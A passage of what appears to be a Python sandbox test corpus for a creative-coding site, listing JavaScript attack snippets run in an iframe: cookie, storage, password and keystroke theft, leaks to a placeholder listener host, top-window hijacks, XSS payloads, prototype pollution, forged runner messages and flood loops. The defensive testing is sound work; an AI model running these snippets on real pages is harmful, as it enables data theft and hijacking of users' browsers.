    "p5-http-post": "function setup() { createCanvas(50, 50); httpPost('{listener}', 'text', {a: 1}, () => 0, () => 0) }",
    "p5-create-img": "function setup() { createCanvas(50, 50); createImg('{listener}', 'x') }",
    "p5-create-video": "function setup() { createCanvas(50, 50); createVideo('{listener}').autoplay(true) }",
    "p5-create-a": "function setup() { createCanvas(50, 50); createA('{listener}', 'go').elt.click() }",
    "p5-create-html": "function setup() { createCanvas(50, 50); createDiv('<img src={listener}><iframe src={listener}></iframe>') }",
}

P5_2_LEAKS = {
    "p5-2-load-image": "async function setup() { createCanvas(50, 50); await loadImage('{listener}') }",
    "p5-2-load-strings": "async function setup() { createCanvas(50, 50); await loadStrings('{listener}') }",
    "p5-2-load-font": "async function setup() { createCanvas(50, 50); await loadFont('{listener}') }",
    "p5-2-load-model": "async function setup() { createCanvas(50, 50); await loadModel('{listener}/it.obj') }",
    "p5-2-http-get": "async function setup() { createCanvas(50, 50); await httpGet('{listener}') }",
}

THREE_LEAKS = {
    "three-texture": "import {TextureLoader} from 'three'\nnew TextureLoader().load('{listener}')",
    "three-bitmap": "import {ImageBitmapLoader} from 'three'\nnew ImageBitmapLoader().load('{listener}')",
    "three-file": "import {FileLoader} from 'three'\nnew FileLoader().load('{listener}')",
    "three-object": "import {ObjectLoader} from 'three'\nnew ObjectLoader().load('{listener}')",
    "three-sound": "import {AudioLoader} from 'three'\nnew AudioLoader().load('{listener}', () => 0, () => 0, () => 0)",
    "three-import": "import 'three'\nimport('{listener}.js')",
    "three-static-import": "import '{listener}.js'\nimport 'three'",
}

READS = {
    # the page
    "parent-document": "console.log(parent.document.documentElement.outerHTML)",
    "top-document": "console.log(top.document.body.innerText)",
    "parent-address": "console.log(parent.location.href)",
    "top-address": "console.log(String(top.location), top.location.search, `${parent.location}`)",
    "parent-every-name": "for (const name of Object.getOwnPropertyNames(parent)) try { console.log(name, String(parent[name]),"
        " String(parent[name].href ?? parent[name].body?.innerText)) } catch {}",
    "parent-by-constructor": "console.log(parent.constructor.constructor('return document.body.innerText')())",
    "parent-eval": "console.log(parent.eval('document.body.innerText'), parent.Function('return localStorage.planted')())",
    "parent-storage": "console.log(parent.localStorage.planted, parent.sessionStorage.planted, parent.name)",
    "referrer": "console.log(document.referrer, performance.getEntriesByType('navigation')[0]?.name)",
    "ancestor-origins": "console.log([...location.ancestorOrigins].join())",
    "opener": "console.log(String(opener), opener?.location?.href)",
    "own-name": "console.log(window.name, frameElement?.outerHTML, frameElement?.parentNode?.innerHTML)",
    "frame-element": "console.log(Object.getOwnPropertyDescriptor(window, 'frameElement').get.call(parent)?.outerHTML)",
    "frames-beside": "for (let n = 0; n < parent.length; n++) try { console.log(parent[n].location.href, parent[n].document.body.innerHTML) } catch {}",
    "frames-by-name": "console.log(parent.frames.length, open('', 'planted')?.document?.body?.innerHTML); console.log(parent.frames['script-studio'])",
    "messages-to-the-frame": "addEventListener('message', ({data, origin}) => console.log(origin, JSON.stringify(data)), true);"
        " onmessage = ({data}) => console.log(JSON.stringify(data))",
    "messages-to-all": "for (const name of ['neospace', 'site', 'live', 'planted']) new BroadcastChannel(name).onmessage = ({data}) => console.log(data)",
    "ports": "const real = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data').get; Object.defineProperty(MessageEvent.prototype,"
        " 'data', {get() { const data = real.call(this); console.log(JSON.stringify(data)); return data }})",
    "errors": "try { parent.document } catch (error) { console.log(error.message, error.stack) }; try { null.x } catch ({stack}) { console.log(stack) }",
    "prepare-stack": "Error.prepareStackTrace = (error, calls) => { for (const call of calls) console.log(call.getFileName(), String(call.getThis()))"
        " }; new Error().stack",
    "timing": "console.log(JSON.stringify(performance.getEntries())); console.log(parent.performance?.timeOrigin)",
    "history": "console.log(history.length, JSON.stringify(history.state), JSON.stringify(navigation.entries().map(({url}) => url)))",
    "keyboard": "for (const name of ['keydown', 'keyup', 'input', 'paste']) addEventListener(name, event => console.log(event.key ?? event.data), true)",
    "caller": "function look() { console.log(String(look.caller), String(look.arguments?.callee?.caller)) }; look()",
    "base-address": "console.log(document.baseURI, document.URL, import.meta?.url)",
    "scripts-of-the-page": "console.log([...document.scripts].map(script => script.textContent + script.src).join())",
    "globals": "console.log(Object.keys(window).join(), JSON.stringify(window.__planted ?? null), String(parent.__planted))",
    "visitor": "console.log(JSON.stringify(neo.viewer), JSON.stringify(neo.wall), Object.getOwnPropertyNames(neo).join())",
    # what is kept
    "cookies": "console.log(document.cookie); cookieStore?.getAll().then(all => console.log(JSON.stringify(all)))",
    "cookie-set": "document.cookie = 'session=stolen; path=/'; console.log(document.cookie)",
    "local-storage": "console.log(localStorage.planted)",
    "session-storage": "console.log(sessionStorage.planted, JSON.stringify(sessionStorage))",
    "indexed-db": "indexedDB.databases().then(all => console.log(JSON.stringify(all))); indexedDB.open('planted').onsuccess = ({target}) =>"
        " console.log([...target.result.objectStoreNames].join())",
    "caches": "caches.keys().then(keys => console.log(keys.join())); caches.match('/').then(found => found?.text()).then(console.log)",
    "private-files": "navigator.storage.getDirectory().then(async folder => { for await (const name of folder.keys()) console.log(name) })",
    "storage-access": "document.requestStorageAccess().then(() => console.log(document.cookie, localStorage.planted))",
    "locks": "navigator.locks.query().then(state => console.log(JSON.stringify(state)))",
    "domain": "document.domain = '127.0.0.1'; console.log(document.domain, parent.document?.body?.innerText)",
    "passwords": "navigator.credentials.get({password: true, mediation: 'silent'}).then(found => console.log(JSON.stringify(found)))",
    "filled-in-forms": "document.body.insertAdjacentHTML('beforeend', '<form><input name=username autocomplete=username>"
        "<input type=password autocomplete=current-password></form>'); setTimeout(() => console.log([...document.querySelectorAll('input')]"
        ".map(input => input.value).join()), 800)",
    # the machine
    "camera": "navigator.mediaDevices.getUserMedia({audio: true, video: true}).then(stream => console.log('granted', stream.id))",
    "screen": "navigator.mediaDevices.getDisplayMedia().then(stream => console.log('granted', stream.id))",
    "cameras": "navigator.mediaDevices.enumerateDevices().then(all => all.forEach(({deviceId}) => navigator.mediaDevices.getUserMedia("
        "{video: {deviceId}}).then(() => console.log('granted'), () => 0)))",
    "place": "navigator.geolocation.getCurrentPosition(({coords}) => console.log('granted', coords.latitude), () => 0)",
    "motion": "ondevicemotion = ({acceleration}) => console.log('granted', acceleration?.x); new Accelerometer().start()",
    "devices": "for (const [kind, ask] of [['usb', 'getDevices'], ['hid', 'getDevices'], ['serial', 'getPorts'], ['bluetooth', 'getDevices']])"
        " navigator[kind]?.[ask]().then(() => console.log('granted', kind), () => 0)",
    "midi": "navigator.requestMIDIAccess().then(() => console.log('granted midi'))",
    "fonts": "queryLocalFonts().then(all => console.log('granted', all.length))",
    "idle": "IdleDetector.requestPermission().then(state => console.log(state)); new IdleDetector().start().then(() => console.log('granted idle'))",
    "screens": "getScreenDetails().then(all => console.log('granted', all.screens.length))",
    "permissions": "for (const name of ['camera', 'microphone', 'geolocation', 'notifications', 'clipboard-read'])"
        " navigator.permissions.query({name: name}).then(({state}) => console.log(state.slice(0, 3), name), () => 0)",
    "srcdoc-parent": "const frame = document.createElement('iframe'); frame.srcdoc = '<script>parent.postMessage(String(top.document.body.innerText))"
        "<\\/script>'; document.body.append(frame); onmessage = ({data}) => console.log(data)",
    "fresh-frame-parent": "const frame = document.createElement('iframe'); document.body.append(frame); console.log(frame.contentWindow.top.document.URL,"
        " frame.contentWindow.localStorage.planted, frame.contentDocument.referrer, frame.contentDocument.cookie)",
    "document-of-another": "console.log(document.implementation.createHTMLDocument().cookie, new Document().cookie, new Document().referrer)",
}

ACTS = {
    # boxes and windows
    "alerts": "for (let n = 0; n < 50; n++) alert('your password, please')\nsetInterval(() => alert('again'), 10)",
    "confirms": "for (let n = 0; n < 50; n++) confirm('sure?')",
    "prompts": "for (let n = 0; n < 50; n++) console.log(prompt('your password, please'))",
    "printer": "print(); setInterval(print, 10)",
    "before-leaving": "addEventListener('beforeunload', event => event.preventDefault()); onbeforeunload = () => 'stay'; location.reload()",
    "window": "open('about:blank'); open('{site}/'); open('{listener}', '_blank', 'popup')",
    "window-on-click": "addEventListener('pointerdown', () => open('{listener}')); addEventListener('click', () => open('about:blank'))",
    "window-by-anchor": "const a = document.createElement('a'); a.href = '{listener}'; a.target = '_blank'; document.body.append(a); a.click();"
        " addEventListener('click', event => event.isTrusted && a.click())",
    "window-by-form": "document.body.insertAdjacentHTML('beforeend', '<form id=f target=_blank action={listener}></form>'); f.submit();"
        " addEventListener('click', () => f.submit())",
    "window-storm": "setInterval(() => open('about:blank', String(Math.random())), 5)",
    # the page above
    "top-go": "top.location = '{listener}'",
    "top-replace": "top.location.replace('{listener}')",
    "parent-hash": "parent.location.hash = 'taken'",
    "parent-script-address": "parent.location = 'javascript:alert(document.cookie)'",
    "top-by-open": "open('{listener}', '_top'); open('{listener}', '_parent')",
    "top-by-anchor": "const a = document.createElement('a'); a.href = '{listener}'; a.target = '_top'; document.body.append(a); a.click();"
        " addEventListener('click', event => event.isTrusted && a.click())",
    "top-by-form": "document.body.insertAdjacentHTML('beforeend', '<form id=f target=_top action={listener}></form>'); f.submit()",
    "top-on-click": "addEventListener('pointerdown', () => { top.location = '{listener}' }); addEventListener('click', () => top.location = '{site}/')",
    "top-by-base": "document.head.insertAdjacentHTML('afterbegin', '<base target=_top href={listener}/>'); const a = document.createElement('a');"
        " a.href = 'x'; document.body.append(a); a.click()",
    "top-close": "top.close(); parent.close(); parent.stop?.(); top.blur(); top.focus()",
    "top-write": "parent.document.write('gone')",
    "top-change": "parent.document.body.remove(); top.document.title = 'taken'",
    "own-close": "close(); self.close(); window.stop()",
    # history
    "back": "history.back(); setInterval(() => history.back(), 50)",
    "back-far": "history.go(-2); history.go(-1); navigation.back?.()",
    "back-on-click": "addEventListener('click', () => history.go(-1)); addEventListener('pointerdown', () => history.back())",
    "history-stuffed": "for (let n = 0; n < 150; n++) history.pushState({n}, '', `#${n}`)",
    "history-stuffed-by-hash": "let n = 0; const timer = setInterval(() => { location.hash = n++; if (n > 60) clearInterval(timer) }, 5)",
    "history-stuffed-on-click": "addEventListener('click', () => { for (let n = 0; n < 50; n++) { history.pushState(0, '', `#c${n}`); location.hash = `d${n}` } })",
    "history-of-big-things": "history.pushState('x'.repeat(1e6), ''); history.replaceState('y'.repeat(1e6), '')",
    # what needs leave
    "fullscreen": "document.documentElement.requestFullscreen().catch(() => 0); addEventListener('click', () =>"
        " document.documentElement.requestFullscreen().then(() => console.log('granted fullscreen'), () => 0))",
    "pointer-lock": "document.body.requestPointerLock(); addEventListener('click', () => document.body.requestPointerLock());"
        " document.addEventListener('pointerlockchange', () => console.log('granted pointer lock'))",
    "keyboard-lock": "navigator.keyboard.lock().then(() => console.log('granted keyboard'), () => 0)",
    "wake-lock": "navigator.wakeLock.request('screen').then(() => console.log('granted wake lock'), () => 0)",
    "notifications": "Notification.requestPermission().then(() => { new Notification('x').onshow = () => console.log('granted notifications') })",
    "clipboard-read": "addEventListener('click', () => navigator.clipboard.readText().then(text => console.log('granted', text), () => 0))",
    "clipboard-write": "addEventListener('click', () => navigator.clipboard.writeText('taken').then(() => console.log('granted clipboard'), () => 0))",
    "clipboard-paste": "document.body.contentEditable = true; addEventListener('click', () => { document.body.focus(); if (document.execCommand("
        "'paste')) console.log('granted', document.body.textContent) })",
    "small-window": "addEventListener('click', () => documentPictureInPicture.requestWindow().then(() => console.log('granted window'), () => 0))",
    "file-picker": "addEventListener('click', () => { showOpenFilePicker().catch(() => 0); showDirectoryPicker().catch(() => 0);"
        " showSaveFilePicker().catch(() => 0) })",
    "eye-dropper": "addEventListener('click', () => new EyeDropper().open().catch(() => 0))",
    "protocol": "navigator.registerProtocolHandler('web+taken', '{listener}?%s')",
    "other-programs": "location = 'mailto:eve@example.org'; open('tel:123'); location = 'ms-settings:x'",
    "share": "addEventListener('click', () => navigator.share({text: 'x', url: '{listener}'}).catch(() => 0))",
    "speech": "for (let n = 0; n < 30; n++) speechSynthesis.speak(new SpeechSynthesisUtterance('over and over'))",
    "vibrate": "addEventListener('click', () => navigator.vibrate([500, 100, 500]))",
    # files
    "download": "const a = document.createElement('a'); a.href = 'data:text/plain,taken'; a.download = 'taken.exe'; document.body.append(a); a.click()",
    "download-of-a-blob": "const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['taken'])); a.download = 'taken.exe';"
        " document.body.append(a); a.click(); addEventListener('click', event => event.isTrusted && a.click())",
    "download-by-going": "location = URL.createObjectURL(new Blob(['taken'], {type: 'application/octet-stream'}))",
    "download-by-frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=data:application/octet-stream,taken></iframe>')",
    # looks
    "overlay": "document.body.insertAdjacentHTML('beforeend', '<div style=\"position: fixed; inset: -9999px; z-index: 2147483647;"
        " width: 99999px; height: 99999px; background: red\">click here</div>')",
    "overlay-on-top": "document.body.insertAdjacentHTML('beforeend', '<dialog>your password, please</dialog><p popover>x</p>');"
        " document.querySelector('dialog').showModal(); document.querySelector('[popover]').showPopover()",
    "frame-resized": "resizeTo(9999, 9999); moveTo(0, 0); document.documentElement.style.cssText = 'width: 99999px; height: 99999px';"
        " scrollTo(9999, 9999); document.body.scrollIntoView()",
    "title": "document.title = 'taken'; document.head.insertAdjacentHTML('beforeend', '<link rel=icon href=data:,>')",
    "cursor": "const canvas = document.createElement('canvas'); canvas.width = canvas.height = 128; document.documentElement.style.cursor ="
        " `url(${canvas.toDataURL()}) 64 64, none`",
    "focus": "document.body.insertAdjacentHTML('beforeend', '<input autofocus>'); const input = document.querySelector('input');"
        " input.oninput = () => console.log(input.value); setInterval(() => { focus(); input.focus() }, 20)",
    "scroll": "document.body.insertAdjacentHTML('beforeend', '<p id=x>x</p>'); setInterval(() => { document.querySelector('p').scrollIntoView();"
        " location.hash = 'x' }, 50)",
    "drag": "document.body.draggable = true; ondragstart = ({dataTransfer}) => dataTransfer.setData('text/uri-list', '{listener}')",
    "keys-eaten": "for (const name of ['keydown', 'wheel', 'touchstart', 'pointerdown', 'contextmenu'])"
        " addEventListener(name, event => { event.preventDefault(); event.stopImmediatePropagation() }, {capture: true, passive: false})",
    # our own things in the frame
    "runner-undone": "document.documentElement.remove(); for (const name of Object.getOwnPropertyNames(window)) try { delete window[name] } catch {}",
    "runner-shadowed": "Function.prototype.call = Function.prototype.apply = Function.prototype.bind = () => () => 0; Array.prototype.map ="
        " Array.prototype.slice = Object.entries = JSON.stringify = () => { throw 0 }; Promise.prototype.then = () => 0; console.log({a: [1]})",
    "runner-polluted": "Object.prototype.t = 'ready'; Object.prototype.d = {}; Object.prototype.get = () => 0; Array.prototype[0] = 'x'; console.log({})",
    "runner-frozen": "Object.freeze(Object.prototype); Object.freeze(Array.prototype); Object.freeze(window.document); console.log([{}])",
    "neighbours": "for (let n = 0; n < parent.length; n++) { const {port1, port2} = new MessageChannel(); parent[n].postMessage({v: 1, t: 'run',"
        " d: {code: 'console.log(\"taken\"); fetch(\"{listener}\")', engine: 'canvas', uses: []}}, '*', [port1]) }",
    "neighbours-flooded": "setInterval(() => { for (let n = 0; n < parent.length; n++) if (parent[n] !== window) parent[n].postMessage({v: 1, t: 'ping'},"
        " '*') }, 1)",
}

P5_1_ACTS = {
    "p5-save-canvas": "function setup() { createCanvas(50, 50); saveCanvas('taken', 'png'); saveStrings(['x'], 'taken.txt') }",
    "p5-save-frames": "function setup() { createCanvas(50, 50); saveFrames('taken', 'png', 1, 3) }\nfunction draw() { background(9) }",
    "p5-print": "function setup() { createCanvas(50, 50); print(); window.print() }",
    "p5-fullscreen": "function setup() { createCanvas(50, 50); fullscreen(true) }\nfunction mousePressed() { fullscreen(true); requestPointerLock() }",
}

FLOODS = {
    "console": "setInterval(() => { for (let n = 0; n < 2000; n++) console.log('line', n) }, 10)",
    "console-of-big-things": "const big = 'x'.repeat(1e6); setInterval(() => console.log(big, [big, big], {[big]: big}), 5)",
    "console-of-deep-things": "const deep = {}; let at = deep; for (let n = 0; n < 5000; n++) at = at.x = {y: [at]}; setInterval(() => console.table(deep), 5)",
    "console-of-wide-things": "const wide = Object.fromEntries([...Array(1e5).keys()].map(n => [n, {n}])); setInterval(() => console.table(wide), 20)",
    "errors": "setInterval(() => { throw new Error('x'.repeat(1e5)) }, 0); setInterval(() => Promise.reject('y'.repeat(1e5)), 0)",
    "messages": "setInterval(() => { for (let n = 0; n < 1000; n++) parent.postMessage({v: 1, t: 'console', d: {level: 'log', args: []}}, '*') }, 5)",
    "big-messages": "const big = 'x'.repeat(1e6); setInterval(() => { for (let n = 0; n < 5; n++) parent.postMessage(big, '*') }, 20)",
    "big-transfers": "setInterval(() => { const buffer = new ArrayBuffer(4e6); parent.postMessage(buffer, '*', [buffer]) }, 20)",
    "messages-to-top": "setInterval(() => { for (let n = 0; n < 500; n++) top.postMessage({type: 'login', token: n}, '*') }, 5)",
    "neighbours": "setInterval(() => { for (let n = 0; n < 300; n++) for (let f = 0; f < parent.length; f++) parent[f].postMessage('x', '*') }, 10)",
    "broadcasts": "const channel = new BroadcastChannel('neospace'); setInterval(() => { for (let n = 0; n < 500; n++) channel.postMessage('x') }, 5)",
    "events-of-resizing": "setInterval(() => { document.documentElement.style.width = Math.random() * 9999 + 'px'; dispatchEvent(new Event('resize')) }, 1)",
    "sounds": "setInterval(() => { for (let n = 0; n < 20; n++) new AudioContext() }, 10)",
    "pictures": "setInterval(() => { for (let n = 0; n < 50; n++) new Image().src = 'nothing-' + Math.random() + '.png' }, 100)",
}

# In place of the runner, with its port: send(type, data) says what the runner would, port and again() are for worse.
FORGERIES = {
    **{f"forge-{type}-{shape}": f"send('{type}', {value})" for type in (
        "hello", "ready", "pong", "console", "error", "loop", "thumb", "names", "neo",
    ) for shape, value in {"nothing": "null", "list": "[[[], {}], -1, 'x']", "number": "NaN"}.items()},
    "forge-no-type": "port.postMessage({v: 1, d: {}}); port.postMessage({v: 1, t: {}, d: {}}); port.postMessage({v: 1, t: ['ready'], d: {}})",
    "forge-no-shape": "for (const what of [null, undefined, 0, NaN, '', 'x', true, [], 7n, new Date(), /x/, new Map([[1, 2]]), new Error('x')])"
        " port.postMessage(what)",
    "forge-other-version": "for (const v of [0, 2, '1', null, {}]) port.postMessage({v, t: 'ready', d: {}})",
    "forge-names-of-objects": "for (const t of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'then']) send(t, {})",
    "forge-prototype": "for (const t of ['console', 'error', 'names', 'neo', 'thumb', 'ready']) send(t, JSON.parse("
        "'{\"__proto__\": {\"polluted\": 1}, \"constructor\": {\"prototype\": {\"polluted\": 1}}, \"args\": {\"__proto__\": []}, \"level\": \"__proto__\"}'))",
    "forge-prototype-names": "send('names', ['__proto__', 'constructor', 'prototype', 'x'.repeat(1e6), 7, null, {}]); send('neo', {do: '__proto__',"
        " on: 'constructor', key: '__proto__', set: JSON.parse('{\"__proto__\": {\"polluted\": 1}}')})",
    "forge-console-levels": "for (const level of ['constructor', '__proto__', 'log\\n', 7, null, {}, '<b>', 'clear']) send('console', {level,"
        " args: [{t: 'string', v: 'x'}], line: 1})",
    "forge-console-nodes": "for (const node of [null, 7, 'x', [], {}, {t: 'string'}, {t: 'string', v: {}}, {t: 'object', items: 'x'}, {t: 'object',"
        " items: [[[], []]], name: {}}, {t: 'array', items: [['a', null], 'b', null]}, {t: '__proto__', v: 1}, {t: 'table', items: {length: 1e9}},"
        " {t: 'error', name: [], items: null}]) send('console', {level: 'log', args: [node, node], line: {}})",
    "forge-console-deep": "let node = {t: 'string', v: 'x'}; for (let n = 0; n < 3000; n++) node = {t: 'object', name: 'O', items: [['x', node]]};"
        " send('console', {level: 'log', args: [node], line: 1})",
    "forge-console-round": "const node = {t: 'object', name: 'O', items: []}; node.items.push(['self', node], ['self', node]);"
        " send('console', {level: 'log', args: [node], line: 1})",
    "forge-console-wide": "send('console', {level: 'log', args: Array(1e5).fill({t: 'string', v: 'x'}), line: 1}); send('console', {level: 'log',"
        " args: [{t: 'array', name: 'A', items: Array(1e5).fill(['k', {t: 'number', v: 1}]), more: 1e99}], line: 1})",
    "forge-console-html": "send('console', {level: 'error', args: [{t: 'string', v: '<img src=x onerror=alert(1)><script>alert(2)<\\/script>'},"
        " {t: 'object', name: '<svg onload=alert(1)>', items: [['<b onclick=alert(1)>', {t: 'string', v: '</textarea><script>alert(1)<\\/script>'}]]}],"
        " line: '<img src=x onerror=alert(1)>'})",
    "forge-console-big": "const v = 'x'.repeat(1e6); for (let n = 0; n < 8; n++) send('console', {level: 'log', args: [{t: 'string', v}, {t: 'object',"
        " name: v, items: [[v, {t: 'string', v}]]}], line: 1})",
    "forge-console-sparse": "const args = []; args.length = 4e9; send('console', {level: 'log', args, line: 1}); const own = [{t: 'string', v: 'x'}];"
        " own.length = 1e6; send('console', {level: 'log', args: own, line: 1})",
    "forge-error-lines": "for (const line of [-1, 1e308, NaN, Infinity, '1', null, 2.5, {}, 2 ** 31]) send('error', {message: 'x', line, column: line})",
    "forge-error-big": "for (let n = 0; n < 5; n++) send('error', {message: 'x'.repeat(1e6), line: 1, column: 1})",
    "forge-error-html": "send('error', {message: '<img src=x onerror=alert(1)>', line: 1, column: 1})",
    "forge-thumb-unasked": "send('thumb', {type: 'text/html', bytes: new TextEncoder().encode('<script>alert(1)<\\/script>').buffer});"
        " send('thumb', {type: 'image/svg+xml', bytes: new ArrayBuffer(9)}); send('thumb', {type: 'image/webp', bytes: 'x'})",
    "forge-thumb-huge": "const bytes = new ArrayBuffer(64e6); port.postMessage({v: 1, t: 'thumb', d: {type: 'image/png', bytes}}, [bytes])",
    "forge-huge-transfers": "for (let n = 0; n < 10; n++) { const big = new ArrayBuffer(16e6); port.postMessage({v: 1, t: 'neo', d: big}, [big]) }",
    "forge-things-transferred": "const {port1, port2} = new MessageChannel(); port.postMessage({v: 1, t: 'hello', d: {port1}}, [port1]); const stream ="
        " new ReadableStream(); port.postMessage({v: 1, t: 'ready', d: {stream}}, [stream]); const canvas = new OffscreenCanvas(9, 9);"
        " port.postMessage({v: 1, t: 'thumb', d: {bytes: canvas, type: 'image/png'}}, [canvas])",
    "forge-hello-many": "for (let n = 0; n < 2000; n++) send('hello', {})",
    "forge-ready-many": "for (let n = 0; n < 2000; n++) send('ready', {})",
    "forge-names-many": "send('names', Array.from({length: 1e5}, (_, n) => 'name' + n)); for (let n = 0; n < 300; n++) send('names', ['x'.repeat(1e4)])",
    "forge-loop-many": "for (let n = 0; n < 300; n++) send('loop', {line: n})",
    "forge-flood": "again(() => { for (let n = 0; n < 1000; n++) send('console', {level: 'log', args: [{t: 'number', v: n}], line: 1}) })",
    "forge-flood-of-pongs": "again(() => { for (let n = 0; n < 1000; n++) send('pong', {n}) })",
    "forge-flood-of-nothing": "again(() => { for (let n = 0; n < 1000; n++) port.postMessage(0) })",
    "forge-flood-of-neo": "again(() => { for (let n = 0; n < 1000; n++) send('neo', {do: 'join', on: 'message', set: {n}}) })",
    "forge-flood-of-text": "const big = 'x'.repeat(1e6); again(() => { for (let n = 0; n < 5; n++) port.postMessage({v: 1, t: big, d: big}) })",
    "forge-neo-shapes": "for (const d of [null, [], 'x', {do: null}, {do: 'shared'}, {do: 'set', changes: 'x'}, {do: 'set', changes: [1]}, {set: {a: {b: {}}}},"
        " {t: 'enter', place: '@ada'}, {t: 'set', changes: {['k'.repeat(1e5)]: 'v'.repeat(1e6)}}, {on: 'dm'}, {on: 7}, {join: {}}]) send('neo', d)",
    "forge-silence": "port.onmessage = null; port.close()",
    "forge-through-the-window": "for (const t of ['hello', 'ready', 'console', 'error', 'neo', 'names']) parent.postMessage({v: 1, t, d: {level: 'log',"
        " args: [{t: 'string', v: 'forged'}], message: 'forged', line: 1}}, '*'); parent.postMessage({type: 'planted', polluted: 1}, '*', [new MessageChannel().port1])",
}

NEO = {
    "neo-listeners": "for (let n = 0; n < 1e5; n++) neo.on('message', () => n)",
    "neo-odd-listeners": "for (const name of ['dm', '__proto__', 'constructor', 7, null, {}, Symbol('x')]) for (const what of [null, 7, 'x', {}])"
        " try { neo.on(name, what) } catch (error) { console.log(error.message) }",
    "neo-not-granted": "neo.on('message', message => console.log('granted', message)); neo.on('dm', message => console.log('granted', message));"
        " setTimeout(() => console.log(neo.audio ? 'has audio' : 'none', neo.shared ? 'has shared' : 'none', neo.viewer?.name ?? ''), 300)",
    "neo-replaced": "window.neo = {}; neo.on = () => 0; Object.assign(neo, {viewer: {name: 'x'}}); delete window.neo; neo.viewer.name = 'x'",
    "neo-prototype": "neo.__proto__.polluted = 1; neo.constructor.prototype.polluted = 1; Object.setPrototypeOf(neo, null)",
    "neo-random": "let sum = 0; for (let n = 0; n < 5e6; n++) sum += neo.random(); neo.random.seed = {}; console.log(sum > 0)",
    "neo-shared-without-leave": "neo.shared.join().then(() => neo.shared.set({a: 1}))",
}

NEO_SHARED = {
    "shared-join-flood": "setInterval(() => { for (let n = 0; n < 200; n++) neo.shared.join() }, 5)",
    "shared-set-flood": "neo.shared.join(); setInterval(() => { for (let n = 0; n < 200; n++) neo.shared.set({['k' + n]: n}) }, 5)",
    "shared-big": "neo.shared.join(); neo.shared.set({big: 'x'.repeat(1e6)}); neo.shared.set(Object.fromEntries([...Array(1e4).keys()].map(n => ['k' + n, n])))",
    "shared-odd": "neo.shared.join(); for (const what of [null, 7, 'x', [], {a: () => 0}, {a: 7n}, {a: Symbol('x')}, {a: undefined}, {a: NaN}, new Map()])"
        " try { neo.shared.set(what) } catch (error) { console.log(error.message) }",
    "shared-round": "neo.shared.join(); const round = {}; round.round = round; neo.shared.set({round}); let deep = {}; for (let n = 0; n < 5000; n++)"
        " deep = {deep}; neo.shared.set({deep})",
    "shared-prototype": "neo.shared.join(); neo.shared.set(JSON.parse('{\"__proto__\": {\"polluted\": 1}, \"constructor\": 1, \"toString\": 2}'));"
        " neo.shared.state.x = 1; neo.shared.players.push({id: 9, name: 'admin', you: true})",
    "shared-getters": "neo.shared.join(); neo.shared.set({get a() { neo.shared.set({a: 1}); return 1 }}); neo.shared.set(new Proxy({}, {ownKeys() { for (;;) {} }}))",
    "shared-by-listeners": "neo.shared.join(); neo.shared.on('change', () => neo.shared.set({n: Math.random()})); neo.shared.set({n: 0})",
}

# What Chromium does not do even where nothing holds it back: it follows no such hints in a frame, or without a window.
NEVER = {
    "fetch-later", "script-xslt", "link-prerender", "link-icon", "link-manifest", "link-preconnect", "link-from-xml", "dns-prefetch",
}

CORPUS = tuple(
    Attack(f"{prefix}{name}", kind, engine, source, uses)
    for prefix, kind, engine, uses, sources in (
        ("freeze-", "freeze", "canvas", (), FREEZES),
        ("p5-1-", "freeze", "p5-1", (), P5_FREEZES),
        ("p5-2-", "freeze", "p5-2", (), P5_FREEZES),
        ("three-", "freeze", "three", (), THREE_FREEZES),
        ("burn-", "burn", "canvas", (), BURNS),
        ("draw-", "draw", "canvas", (), DRAWINGS),
        ("crash-", "crash", "canvas", (), CRASHES),
        ("memory-", "memory", "canvas", (), MEMORY),
        ("", "leak", "canvas", (), LEAKS | SITE_LEAKS),
        ("", "leak", "p5-1", (), P5_1_LEAKS),
        ("", "leak", "p5-2", (), P5_2_LEAKS),
        ("", "leak", "three", (), THREE_LEAKS),
        ("read-", "read", "canvas", (), READS),
        ("act-", "act", "canvas", (), ACTS),
        ("act-", "act", "p5-1", (), P5_1_ACTS),
        ("flood-", "flood", "canvas", (), FLOODS),
        ("", "forge", "canvas", (), FORGERIES),
        ("", "neo", "canvas", (), NEO),
        ("", "neo", "canvas", ("shared",), NEO_SHARED),
    )
    for name, source in sources.items()
)
